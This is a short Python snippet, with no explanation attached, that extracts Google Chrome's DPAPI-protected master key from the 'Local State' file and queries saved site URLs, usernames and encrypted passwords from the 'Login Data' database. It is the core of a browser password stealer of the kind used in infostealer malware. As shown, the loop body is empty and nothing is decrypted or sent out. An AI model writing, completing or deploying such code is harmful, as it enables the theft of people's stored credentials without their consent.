import os, json, sqlite3, base64, win32crypt
state = json.load(open(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Local State')))
key = win32crypt.CryptUnprotectData(base64.b64decode(state['os_crypt']['encrypted_key'])[5:], None, None, None, 0)[1]
db = sqlite3.connect('Login Data')
for row in db.execute('SELECT origin_url, username_value, password_value FROM logins'):
    pass
